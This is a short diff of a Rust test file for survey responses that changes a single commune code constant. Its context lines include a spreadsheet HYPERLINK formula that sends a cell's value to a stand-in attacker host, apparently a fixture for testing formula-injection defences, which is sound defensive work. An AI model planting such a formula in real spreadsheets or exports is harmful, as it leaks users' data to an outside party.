@@ -15,7 +15,7 @@ use hailong_tests::qr_response;
 use survey_definitions::{Answer, AnswerValue};
 
 const TAN_PHU: &str = "25195";
-const THAC_MO: &str = "25216";
+const THAC_MO: &str = "25217";
 const SET: &str = "dong-nai-2026";
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Mở\")";
 /// A stored response: id, commune code, channel, overall rating, comment.
